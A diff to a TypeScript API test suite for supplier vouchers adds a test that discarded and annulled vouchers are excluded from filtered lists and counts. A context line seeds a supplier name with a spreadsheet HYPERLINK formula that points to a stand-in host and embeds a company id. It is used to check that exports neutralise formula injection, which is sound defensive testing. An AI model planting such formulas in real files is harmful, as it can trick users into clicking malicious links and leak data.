@@ -395,6 +395,29 @@ describe("the list", () => {
     expect([excel.status, excel.raw.subarray(0, 2).toString()]).toEqual([200, "PK"]);
   });
 
+  test("what is over waits for no document and no look: not counted, not in the list of those that do", async () => {
+    const supplier = await aSupplier();
+    const add = async () => aVoucher(finance, invoiceFacts(company.id, supplier.id));
+    const [open, discarded, annulled] = [await add(), await add(), await add()];
+    const ids = { in: [open.id, discarded.id, annulled.id] };
+    await prisma.voucher.updateMany({
+      where: { id: ids },
+      data: { check_state: "no_figura", observed: { reason: "Falta el remito", by: finance.userId, at: "2026-11-03" } },
+    });
+    await prisma.voucher.update({ where: { id: discarded.id }, data: { state: "descartado" } });
+    await prisma.voucher.update({ where: { id: annulled.id }, data: { state: "anulado" } });
+    const own = `supplier=${supplier.id}`;
+    const read = async (more: string) =>
+      (await requestAs<Page & { unlisted: number }>(finance, "GET", `/vouchers?${own}${more}`)).body;
+    for (const more of ["&without_file=1", "&observed=1", "&check_state=no_figura"]) {
+      const { data, total } = await read(more);
+      expect([more, total, data.map(({ id }) => id)]).toEqual([more, 1, [open.id]]);
+    }
+    expect(await read("")).toMatchObject({ total: 3, observed: 1, unlisted: 1 });
+    const unfiled = await requestAs(finance, "GET", `/vouchers/without-file?${own}`);
+    expect(unfiled.body).toEqual({ count: 1 });
+  });
+
   test("what looks like a formula is text in every file", async () => {
     const supplier = await aSupplier({ name: `=HYPERLINK("http://x.test/${company.id}";"Cobrar")` });
     const made = await aVoucher(finance, invoiceFacts(company.id, supplier.id));
